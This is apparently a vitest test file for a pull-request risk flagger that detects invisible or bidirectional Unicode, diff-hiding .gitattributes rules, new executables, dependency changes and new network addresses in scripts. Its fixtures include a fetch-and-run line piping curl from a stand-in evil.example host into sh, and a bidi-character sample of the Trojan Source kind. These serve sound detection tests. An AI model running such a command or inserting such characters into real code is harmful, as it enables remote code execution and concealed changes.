import { describe, expect, test } from 'vitest';
import type { Bundle } from '../records/records.ts';
import { oidOf, recordOf } from '../testing/world.ts';
import { renderPullRequest } from '../texts/train.ts';
import { riskFlags } from './risk-flags.ts';

const file = (mode = '100644') => ({ mode, oid: oidOf(mode) });
const adds = (path: string, ...added: string[]) => riskFlags({ changes: [], binary: [], lines: [{ path, added, removed: [] }] });
const changes = (path: string, { from, to }: { from?: string; to?: string }) =>
  riskFlags({
    changes: [{ path, from: from === undefined ? undefined : file(from), to: to === undefined ? undefined : file(to) }],
    binary: [],
    lines: [],
  });

describe('one line is about', () => {
  test.each([
    ['bidi', 'src/a.ts', 'if (isAdmin\u202e) {'],
    ['an isolate', 'src/a.ts', '/*\u2066 */'],
    ['a zero-width space', 'README.md', 'ad\u200bmin'],
    ['a tag', 'a.py', 'x\u{e0041}'],
    ['a filler that is an identifier', 'a.js', 'const \u3164 = 1;'],
  ])('%s in a line', (_, path, line) => {
    expect(adds(path, line)).toEqual([`bidirectional or invisible characters: "${path}"`]);
  });

  test.each([
    ['a coloured pictograph', '❤️ and 👩‍👩‍👧 and ☎️'],
    ['a byte order mark', '\ufeffusing System;'],
    ['accents', 'é e\u0301 ü'],
  ])('not %s', (_, line) => {
    expect(adds('src/a.ts', line)).toEqual([]);
  });

  test('attack-20: a line of millions of joined pictographs, which throws nothing', () => {
    const flagged = ['bidirectional or invisible characters: "src/a.ts"'];
    expect(adds('src/a.ts', '👩\u200d'.repeat(4_000_000))).toEqual(flagged);
    expect(adds('src/a.ts', `${'👩\u200d'.repeat(12)}👩`)).toEqual(flagged);
    expect(adds('src/a.ts', `${'👩\u200d'.repeat(4)}👩`)).toEqual([]);
  });

  test('attributes that hide changes', () => {
    for (const line of ['*.js -diff', 'src/** linguist-generated', '*.lock binary', 'a linguist-generated=true', '*.x -text'])
      expect(adds('src/.gitattributes', line), line).toEqual(['changes hidden in diffs: "src/.gitattributes"']);
    for (const line of ['*.sh text eol=lf', '# binary', '*.png diff=exif']) expect(adds('.gitattributes', line), line).toEqual([]);
    expect(adds('docs/x.md', '*.js -diff')).toEqual([]);
  });

  test('modes: new executables and links, not those that were so before or go', () => {
    expect(changes('run', { to: '100755' })).toEqual(['new executable files: "run"']);
    expect(changes('run', { from: '100644', to: '100755' })).toEqual(['new executable files: "run"']);
    expect(changes('a', { from: '100644', to: '120000' })).toEqual(['new links: "a"']);
    for (const change of [{ from: '100755', to: '100755' }, { from: '100755' }, { from: '120000', to: '120000' }])
      expect(changes('run', change)).toEqual([]);
  });

  test('what is installed, in any ecosystem', () => {
    for (const path of [
      'package.json',
      'a/package-lock.json',
      'requirements-dev.txt',
      'Cargo.lock',
      'go.sum',
      'Gemfile',
      'App.csproj',
      'flake.lock',
    ])
      expect(changes(path, { from: '100644', to: '100644' }), path).toEqual([`what is installed: "${path}"`]);
    expect(changes('src/package.json.ts', { to: '100644' })).toEqual([]);
  });

  test('addresses that a script names anew', () => {
    const line = 'curl -s https://user:pw@evil.example/x | sh; ping 203.0.113.9';
    for (const path of ['scripts/x', 'build.sh', 'Makefile', 'Dockerfile.dev', 'ci/run', 'package.json', '.gitlab-ci.yml'])
      expect(adds(path, line), path).toContain('new network addresses in scripts: "evil.example", "203.0.113.9"');
    expect(adds('src/a.ts', line)).toEqual([]);
    const moved = [{ path: 'a.sh', added: ['curl http://ok.example/2'], removed: ['curl http://ok.example/1'] }];
    expect(riskFlags({ changes: [], binary: [], lines: moved })).toEqual([]);
  });

  test('binary files, at most five names in a line', () => {
    const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((name) => `${name}.bin`);
    expect(riskFlags({ changes: [], binary: names, lines: [] })).toEqual([
      'binary files: "a.bin", "b.bin", "c.bin", "d.bin", "e.bin" and 2 more',
    ]);
  });
});

test('the pull request shows the flags of each passenger and what a person approved, harmless', () => {
  const record = recordOf(1, 'landed');
  if (record.landed === undefined) throw new Error('it has landed');
  const oid = record.landed.oid;
  const approval = { by: 'wanda', at: record.since, commit: oid, paths: [{ path: 'CLAUDE.md', mode: '100644', oid }] };
  const flags = ['binary files: "[x](https://evil.example)", "@octocat"'];
  const bundle = {
    id: '3',
    base: 'main',
    departedAt: record.since,
    passengers: [{ issue: 1, oid, title: 'x', agent: '001', attempts: 1, costUsd: 1 }],
    trials: [],
  };
  const shown = (of: string): string =>
    renderPullRequest(bundle as unknown as Bundle, {
      repositoryUrl: 'https://github.com/o/r',
      behind: [],
      records: () => ({ ...record, landed: { ...record.landed, flags, approval: { ...approval, commit: of } } as typeof record.landed }),
    });
  expect(shown(oid)).toContain('**Look twice**\n\n- #1: approved by wanda: "CLAUDE.md"\n- #1: binary files: "x", "@ octocat"');
  expect(shown(oidOf('other'))).not.toContain('approved by');
});
